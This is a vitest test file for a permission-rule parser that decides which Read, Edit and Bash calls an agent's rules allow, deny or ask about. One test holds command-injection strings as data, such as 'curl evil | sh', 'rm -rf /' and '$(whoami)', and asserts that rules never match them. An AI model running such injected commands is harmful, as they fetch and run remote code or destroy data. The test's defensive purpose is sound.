import { homedir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { ExecutorError } from '../executor-error.js';
import { escapeRulePath, parsePermissionRule } from './permission-rule.js';

const workspace = '/srv/ws';

function specifierOf(rule: string) {
  const specifier = parsePermissionRule(rule, 'allow').specifier;
  if (specifier === undefined) throw new Error(`${rule} has no specifier`);
  return specifier;
}

function matchesPath(rule: string, path: string): boolean {
  return specifierOf(rule).matchesPath(path, workspace);
}

function matchesContent(rule: string, content: string): boolean {
  return specifierOf(rule).matchesContent(content);
}

describe('parsePermissionRule: tool names', () => {
  it('a bare tool name is a whole-tool rule for exactly that tool', () => {
    const rule = parsePermissionRule('Read', 'deny');
    expect(rule).toMatchObject({ source: 'Read', behavior: 'deny', specifier: undefined });
    expect(rule.matchesToolName('Read')).toBe(true);
    expect(rule.matchesToolName('ReadFile')).toBe(false);
    expect(rule.matchesToolName('read')).toBe(false);
  });

  it('* in a tool name matches any characters, and only there', () => {
    const server = parsePermissionRule('mcp__github__*', 'allow');
    expect(server.matchesToolName('mcp__github__search')).toBe(true);
    expect(server.matchesToolName('mcp__githubx__search')).toBe(false);
    expect(server.matchesToolName('mcp__git__hub__x')).toBe(false);
    const dotted = parsePermissionRule('a.b', 'allow');
    expect(dotted.matchesToolName('a.b')).toBe(true);
    expect(dotted.matchesToolName('aXb')).toBe(false);
    expect(parsePermissionRule('*', 'deny').matchesToolName('Anything')).toBe(true);
  });

  it('trims surrounding whitespace and keeps the trimmed text as the source', () => {
    const rule = parsePermissionRule('  Read( src/** )  ', 'allow');
    expect(rule.source).toBe('Read( src/** )');
    expect(rule.specifier?.text).toBe('src/**');
  });
});

describe('parsePermissionRule: invalid rules', () => {
  it.each([['Read('], [''], ['Re ad'], ['Read()'], ['Read(  )'], ['(src/**)'], ['Read)'], [42], [null]])(
    'refuses %j with invalid_permission_rule naming the rule, the list and the accepted forms',
    (source) => {
      let caught: unknown;
      try {
        parsePermissionRule(source, 'ask');
      } catch (error) {
        caught = error;
      }
      expect(ExecutorError.isInstance(caught)).toBe(true);
      const error = caught as ExecutorError;
      expect(error.code).toBe('invalid_permission_rule');
      expect(error.message).toContain(`Invalid rule ${JSON.stringify(source)} in permissions.ask`);
      expect(error.message).toContain('Read(src/**)');
    },
  );
});

describe('parsePermissionRule: path rules with ..', () => {
  it.each([
    'Read(../x/**)',
    'Read(..)',
    'Edit(src/../../x/**)',
    'Read(./../x)',
    'Read(/srv/ws/../x/**)',
    'Read(~/../x)',
  ])('refuses %s: it would never match; the error says to use an absolute path or ~/', (rule) => {
    let caught: unknown;
    try {
      parsePermissionRule(rule, 'deny');
    } catch (error) {
      caught = error;
    }
    expect(ExecutorError.isInstance(caught)).toBe(true);
    const error = caught as ExecutorError;
    expect(error.code).toBe('invalid_permission_rule');
    expect(error.message).toContain(`Invalid rule ${JSON.stringify(rule)} in permissions.deny`);
    expect(error.message).toContain('absolute path');
    expect(error.message).toContain('~/');
  });

  it.each([
    'Bash(cd .. && make)',
    'Bash(../run.sh:*)',
    'Bash(make -C ../lib)',
    'Read(..cache/**)',
    'Read(a..b)',
  ])('accepts %s: a command, or a name that only starts with dots', (rule) => {
    expect(parsePermissionRule(rule, 'deny').specifier).toBeDefined();
  });
});

describe('path specifiers', () => {
  it('a relative glob is anchored at the workspace and never matches outside it', () => {
    expect(matchesPath('Read(src/**)', '/srv/ws/src/a.ts')).toBe(true);
    expect(matchesPath('Read(src/**)', '/srv/ws/lib/src/a.ts')).toBe(false);
    expect(matchesPath('Read(src/**)', '/srv/src/a.ts')).toBe(false);
    expect(matchesPath('Read(src/**)', '/srv/ws-other/src/a.ts')).toBe(false);
    expect(matchesPath('Read(./src/**)', '/srv/ws/src/a.ts')).toBe(true);
  });

  it('dir/** covers the directory itself, its dotfiles and everything below', () => {
    for (const path of [
      '/srv/ws/secrets',
      '/srv/ws/secrets/x',
      '/srv/ws/secrets/.env',
      '/srv/ws/secrets/.d/.k',
    ]) {
      expect(matchesPath('Read(secrets/**)', path), path).toBe(true);
    }
    expect(matchesPath('Read(secrets/**)', '/srv/ws/secrets-old/x')).toBe(false);
  });

  it('** covers the workspace directory itself, as dir/** covers dir; * does not', () => {
    for (const rule of ['Read(**)', 'Read(./**)', 'Read(**/**)']) {
      expect(matchesPath(rule, workspace), rule).toBe(true);
      expect(matchesPath(rule, '/srv/ws/a/b.txt'), rule).toBe(true);
      expect(matchesPath(rule, '/srv'), rule).toBe(false);
    }
    expect(matchesPath('Read(*)', workspace)).toBe(false);
    expect(matchesPath('Read(~/**)', homedir())).toBe(true);
  });

  it('* stays within one directory and matches dotfiles', () => {
    expect(matchesPath('Read(*)', '/srv/ws/.env')).toBe(true);
    expect(matchesPath('Read(src/*)', '/srv/ws/src/a/b.ts')).toBe(false);
    expect(matchesPath('Read(**/*.md)', '/srv/ws/README.md')).toBe(true);
  });

  it('/abs and //abs globs are absolute', () => {
    expect(matchesPath('Read(/etc/**)', '/etc/passwd')).toBe(true);
    expect(matchesPath('Read(//etc/**)', '/etc/passwd')).toBe(true);
    expect(matchesPath('Read(/etc/**)', '/srv/ws/etc/passwd')).toBe(false);
  });

  it('~/ globs are anchored at the home directory', () => {
    const home = homedir();
    expect(matchesPath('Read(~/.ssh/**)', join(home, '.ssh', 'id_ed25519'))).toBe(true);
    expect(matchesPath('Read(~/.ssh/**)', join(workspace, '.ssh', 'id_ed25519'))).toBe(false);
    expect(matchesPath('Read(~/.ssh/**)', `${home}-other/.ssh/id_ed25519`)).toBe(false);
  });
});

describe('letter case', () => {
  it('deny and ask path specifiers ignore case, also in their anchor; allow ones do not', () => {
    for (const behavior of ['deny', 'ask'] as const) {
      const specifier = parsePermissionRule('Read(vault/**)', behavior).specifier;
      expect(specifier?.matchesPath('/srv/ws/Vault/x', workspace), behavior).toBe(true);
      expect(specifier?.matchesPath('/SRV/WS/vault/x', workspace), behavior).toBe(true);
      expect(specifier?.matchesPath('/srv/ws-other/vault/x', workspace), behavior).toBe(false);
    }
    expect(matchesPath('Read(vault/**)', '/srv/ws/Vault/x')).toBe(false);
    expect(matchesPath('Read(vault/**)', '/SRV/WS/vault/x')).toBe(false);
  });
});

describe('how narrowly a path specifier names paths', () => {
  it.each([
    '**',
    '*',
    '**/*',
    '/**',
    '//**',
    '~/**',
    './**',
    '*/**',
    '.*',
    '**/.*',
    '{*,**}',
    '!secret',
    '~/*',
  ])('%s is a catch-all', (glob) => {
    expect(specifierOf(`Read(${glob})`)).toMatchObject({ isCatchAll: true, isLiteral: false });
  });

  it.each(['src/**', '*.env', '**/.env', '/etc/**', '~/.ssh/**', '.env*'])(
    '%s names something but is no literal',
    (glob) => {
      expect(specifierOf(`Read(${glob})`)).toMatchObject({ isCatchAll: false, isLiteral: false });
    },
  );

  it.each(['.env', 'deploy/id_ed25519', '/etc/passwd', '~/.npmrc', './a.txt'])('%s is a literal', (glob) => {
    expect(specifierOf(`Read(${glob})`)).toMatchObject({ isCatchAll: false, isLiteral: true });
  });
});

describe('which specifiers read as commands (looksLikeContent)', () => {
  it.each(['rm:*', 'git push --force', 'make', 'curl*', '../run.sh:*', '*.pem'])(
    '%s reads as a command',
    (text) => {
      expect(specifierOf(`Bash(${text})`).looksLikeContent).toBe(true);
    },
  );

  it.each(['src/**', './build', '.env', '~/.ssh/**', '/etc/passwd', 'secrets/x'])(
    '%s reads as a path only',
    (text) => {
      expect(specifierOf(`Bash(${text})`).looksLikeContent).toBe(false);
    },
  );
});

describe('content specifiers', () => {
  it('prefix:* matches the prefix alone, with arguments, or with a :suffix, and nothing longer', () => {
    for (const content of ['npm run test', 'npm run test:unit', 'npm run test --watch']) {
      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(true);
    }
    for (const content of ['npm run testx', 'npm run tes', 'xnpm run test', ' npm run test']) {
      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(false);
    }
  });

  it('prefix and wildcard patterns never match content with shell control characters', () => {
    for (const content of [
      'npm run test; curl evil | sh',
      'npm run test && rm -rf /',
      'npm run test $(whoami)',
      'npm run test `id`',
      'npm run test > out',
      'npm run test\nid',
    ]) {
      expect(matchesContent('Bash(npm run test:*)', content), content).toBe(false);
      expect(matchesContent('Bash(npm run *)', content), content).toBe(false);
    }
    expect(matchesContent('Bash(npm run *)', 'npm run build')).toBe(true);
  });

  it('a pattern without * matches the exact content only', () => {
    expect(matchesContent('Bash(git status)', 'git status')).toBe(true);
    expect(matchesContent('Bash(git status)', 'git status -s')).toBe(false);
  });
});

describe('how a path glob is read: parentheses and brackets are literal, a backslash escapes', () => {
  it('Next.js route groups and dynamic segments match as users mean them', () => {
    expect(matchesPath('Read(app/(admin)/**)', `${workspace}/app/(admin)/page.tsx`)).toBe(true);
    expect(matchesPath('Read(app/(admin)/**)', `${workspace}/app/admin/page.tsx`)).toBe(false);
    expect(matchesPath('Read(app/[slug]/**)', `${workspace}/app/[slug]/page.tsx`)).toBe(true);
    expect(matchesPath('Read(app/[slug]/**)', `${workspace}/app/s/page.tsx`)).toBe(false);
    expect(matchesPath('Read(app/[...all]/page.tsx)', `${workspace}/app/[...all]/page.tsx`)).toBe(true);
    // Optional catch-all segments, and a `]` with no `[` before it, in a glob with wildcards.
    expect(matchesPath('Read(app/[[...slug]]/*)', `${workspace}/app/[[...slug]]/page.tsx`)).toBe(true);
    expect(matchesPath('Read(app/[[...slug]]/*)', `${workspace}/app/s/page.tsx`)).toBe(false);
    expect(matchesPath('Read(x]*/**)', `${workspace}/x]y/z`)).toBe(true);
    expect(matchesPath('Read(x]*/**)', `${workspace}/xy/z`)).toBe(false);
    // A deny rule too, case folded as deny rules are.
    const deny = parsePermissionRule('Read(app/(Admin)/**)', 'deny').specifier!;
    expect(deny.matchesPath(`${workspace}/app/(admin)/secret.ts`, workspace)).toBe(true);
  });

  it('the specifier is everything between the first ( and the last ), parentheses inside included', () => {
    expect(specifierOf('Read(a(b)c/(d))').text).toBe('a(b)c/(d)');
    expect(matchesPath('Read(a(b)c/(d))', `${workspace}/a(b)c/(d)`)).toBe(true);
  });

  it('extglob spellings are not groups: *(x) is a star then a literal (x)', () => {
    expect(matchesPath('Read(*(x).ts)', `${workspace}/a(x).ts`)).toBe(true);
    expect(matchesPath('Read(*(x).ts)', `${workspace}/ax.ts`)).toBe(false);
    expect(matchesPath('Read(+(a|b))', `${workspace}/+(a|b)`)).toBe(true);
  });

  it('still special: *, **, ?, {a,b}; a backslash makes the next character literal', () => {
    expect(matchesPath('Read(src/*.ts)', `${workspace}/src/a.ts`)).toBe(true);
    expect(matchesPath('Read(a?.ts)', `${workspace}/ab.ts`)).toBe(true);
    expect(matchesPath('Read({a,b}.ts)', `${workspace}/b.ts`)).toBe(true);
    expect(matchesPath('Read(a\\*b)', `${workspace}/a*b`)).toBe(true);
    expect(matchesPath('Read(a\\*b)', `${workspace}/axb`)).toBe(false);
    expect(matchesPath('Read(\\{a,b\\}.ts)', `${workspace}/{a,b}.ts`)).toBe(true);
    expect(matchesPath('Read(\\{a,b\\}.ts)', `${workspace}/a.ts`)).toBe(false);
  });

  it('literal means no unescaped *, ?, { or } and no leading !: parentheses and brackets do not count', () => {
    for (const literal of ['app/(admin)/page.tsx', 'app/[slug]/x', 'a\\*b', '\\!x', 'a\\{b\\}']) {
      expect(specifierOf(`Read(${literal})`).isLiteral, literal).toBe(true);
    }
    for (const glob of ['a*b', 'a\\\\*b', 'a?', '{a,b}', '!x']) {
      expect(specifierOf(`Read(${glob})`).isLiteral, glob).toBe(false);
    }
  });

  it('escapeRulePath turns any name into a literal rule that matches it and nothing else', () => {
    const names = [
      'plain.txt',
      'app/(admin)/page.tsx',
      'app/[slug]/x',
      'a*b?c',
      '{a,b}',
      '!bang',
      'back\\slash',
      ' leading',
      'trailing ',
      '~/in-a-dir-named-tilde',
      'caf\u00e9',
      'a|b',
      '+(a|b)',
      '@(x)',
      '$HOME^x',
      'a.b+c',
      '**',
    ];
    for (const name of names) {
      const rule = `Read(${escapeRulePath(name)})`;
      const specifier = specifierOf(rule);
      expect(specifier.isLiteral, rule).toBe(true);
      expect(specifier.matchesPath(`${workspace}/${name}`, workspace), rule).toBe(true);
      expect(specifier.matchesPath(`${workspace}/${name}x`, workspace), rule).toBe(false);
      expect(specifier.matchesPath(`${workspace}/x${name}`, workspace), rule).toBe(false);
    }
  });
});

describe('escapeRulePath over every printable ASCII character', () => {
  const characters = Array.from({ length: 95 }, (_, index) => String.fromCharCode(32 + index)).filter(
    (character) => character !== '/',
  );
  it.each(characters.map((character) => [character]))('%j alone, inside and doubled', (character) => {
    for (const name of [`a${character}b`, `${character}x`, `x${character}`, `${character}${character}y`]) {
      const specifier = specifierOf(`Read(${escapeRulePath(name)})`);
      expect(specifier.matchesPath(`${workspace}/${name}`, workspace), name).toBe(true);
      expect(specifier.matchesPath(`${workspace}/${name}.other`, workspace), name).toBe(false);
    }
  });
});

describe('Unicode normal forms: one rule, either spelling', () => {
  const nfc = 'caf\u00e9';
  const nfd = 'cafe\u0301';

  it('a rule typed in NFC matches an NFD directory name, and the other way round', () => {
    expect(matchesPath(`Read(${nfc}/**)`, `${workspace}/${nfd}/menu.txt`)).toBe(true);
    expect(matchesPath(`Read(${nfd}/**)`, `${workspace}/${nfc}/menu.txt`)).toBe(true);
    const deny = parsePermissionRule(`Read(${nfc}/**)`, 'deny').specifier!;
    expect(deny.matchesPath(`${workspace}/${nfd.toUpperCase()}/x`, workspace)).toBe(true);
  });

  it('a workspace root spelled in the other form still anchors relative rules', () => {
    const root = `/srv/${nfd}`;
    expect(specifierOf('Read(src/**)').matchesPath(`/srv/${nfc}/src/a.ts`, root)).toBe(true);
  });

  it('content rules compare in NFC too', () => {
    expect(matchesContent(`Bash(cat ${nfc}:*)`, `cat ${nfd}`)).toBe(true);
  });
});

describe('blanks at the end of a specifier after backslashes', () => {
  it('an even run of backslashes escapes itself: the blanks after it are layout', () => {
    // Read(a\\ ): the name a\ (one backslash), the blank trimmed.
    const specifier = specifierOf('Read(a\\\\ )');
    expect(specifier.text).toBe('a\\\\');
    expect(specifier.matchesPath(`${workspace}/a\\`, workspace)).toBe(true);
    expect(specifier.matchesPath(`${workspace}/a\\ `, workspace)).toBe(false);
  });

  it('an odd run escapes one blank, part of the name; the blanks after it are layout', () => {
    const specifier = specifierOf('Read(a\\   )');
    expect(specifier.text).toBe('a\\ ');
    expect(specifier.matchesPath(`${workspace}/a `, workspace)).toBe(true);
    expect(specifier.matchesPath(`${workspace}/a   `, workspace)).toBe(false);
  });
});

describe('backslash escapes in a glob with wildcards', () => {
  const cases: [rule: string, matching: string[], notMatching: string[]][] = [
    // An escaped parenthesis is a parenthesis, not a group, and the rule still needs it.
    ['\\(*', ['(x', '('], ['x', '\\(x']],
    ['a\\*b*', ['a*bc', 'a*b'], ['axbc', 'a\\bc']],
    // A backslash at the very end has nothing to escape: it is a backslash.
    ['*\\', ['x\\'], ['x']],
    // An escaped backslash is one backslash, wherever it is.
    ['\\\\*', ['\\x', '\\'], ['a', '[\\]', 'ax']],
    ['*\\\\', ['x\\', '\\'], ['[\\]', 'x']],
    ['\\\\\\\\*', ['\\\\x', '\\\\'], ['\\x', '\\']],
    ['\\\\\\(*', ['\\(x'], ['(x', '\\\\x']],
    ['\\(\\\\*', ['(\\x'], ['([\\]', '(x']],
    // Parentheses and a bar are literal, also unbalanced or alone.
    ['*))', ['))', 'a))'], ['a']],
    ['*|', ['x|', '|'], ['a', 'x']],
    ['*(a', ['(a', 'x(a'], ['a']],
    ['[*]', ['[]', '[x]'], [']', 'x']],
    // An escaped letter or digit is that letter or digit, never a regular-expression class:
    // `\w` is not any word character, `\d` not any digit, `\s` not any blank.
    ['*.\\w', ['x.w'], ['x.a', 'x.ww']],
    ['*.\\d', ['x.d'], ['x.5']],
    ['*.t\\s', ['x.ts'], ['x.t ', 'x.t\t']],
    ['log\\S*', ['logS', 'logSx'], ['loga', 'log']],
    ['\\b*', ['b', 'bx'], ['x']],
  ];
  it.each(cases)('%s', (glob, matching, notMatching) => {
    for (const behavior of ['allow', 'deny'] as const) {
      const specifier = parsePermissionRule(`Read(${glob})`, behavior).specifier!;
      expect(specifier.isLiteral, glob).toBe(false);
      for (const name of matching) {
        expect(specifier.matchesPath(`${workspace}/${name}`, workspace), `${behavior} ${name}`).toBe(true);
      }
      for (const name of notMatching) {
        expect(specifier.matchesPath(`${workspace}/${name}`, workspace), `${behavior} ${name}`).toBe(false);
      }
    }
  });
});

describe('more of what rules decide', () => {
  it('Read(.) names the workspace directory itself', () => {
    expect(matchesPath('Read(.)', workspace)).toBe(true);
    expect(matchesPath('Read(.)', `${workspace}/a`)).toBe(false);
  });

  it('a specifier starting with ~ but no ~/ reads as a path, not a command', () => {
    expect(specifierOf('Bash(~backup)').looksLikeContent).toBe(false);
    expect(specifierOf('Bash(backup~)').looksLikeContent).toBe(true);
  });

  it('a literal deny or ask rule ignores case; a literal allow rule does not', () => {
    for (const behavior of ['deny', 'ask'] as const) {
      const specifier = parsePermissionRule('Read(config/.ENV)', behavior).specifier!;
      expect(specifier.isLiteral).toBe(true);
      expect(specifier.matchesPath(`${workspace}/Config/.env`, workspace), behavior).toBe(true);
      expect(specifier.matchesPath(`${workspace}/config/.env.local`, workspace), behavior).toBe(false);
    }
    const allow = specifierOf('Read(config/.ENV)');
    expect(allow.matchesPath(`${workspace}/config/.ENV`, workspace)).toBe(true);
    expect(allow.matchesPath(`${workspace}/config/.env`, workspace)).toBe(false);
  });

  it('content without a single ASCII character is compared in NFC too', () => {
    // 가 (U+AC00) typed in the rule; the call decomposed into its two jamo (U+1100 U+1161).
    expect(matchesContent('Bash(\uac00)', '\u1100\u1161')).toBe(true);
    expect(matchesContent('Bash(\u1100\u1161)', '\uac00')).toBe(true);
  });

  it('a workspace at the file system root anchors relative rules there', () => {
    expect(specifierOf('Read(etc/**)').matchesPath('/etc/passwd', '/')).toBe(true);
    expect(specifierOf('Read(etc/**)').matchesPath('/srv/etc/passwd', '/')).toBe(false);
  });

  it('a sibling directory whose name starts with the workspace name is outside it', () => {
    expect(matchesPath('Read(other/**)', '/srv/ws-other/x')).toBe(false);
    expect(matchesPath('Read(other/**)', '/srv/wsother/x')).toBe(false);
    expect(matchesPath('Read(**)', '/srv/ws2/a')).toBe(false);
  });

  it('~/ rules are anchored at the home directory given, not the workspace', () => {
    const specifier = parsePermissionRule('Read(~/notes/**)', 'deny', { homeDir: '/home/u' }).specifier!;
    expect(specifier.matchesPath('/home/u/notes/a', workspace)).toBe(true);
    expect(specifier.matchesPath(`${workspace}/notes/a`, workspace)).toBe(false);
    const relative = parsePermissionRule('Read(notes/**)', 'deny', { homeDir: '/home/u' }).specifier!;
    expect(relative.matchesPath('/home/u/notes/a', workspace)).toBe(false);
  });

  it('a content pattern without * is the exact command, shell operators included', () => {
    expect(matchesContent('Bash(make && make install)', 'make && make install')).toBe(true);
    expect(matchesContent('Bash(make && make install)', 'make && make install; id')).toBe(false);
    expect(matchesContent('Bash(git log | head)', 'git log | head')).toBe(true);
  });
});
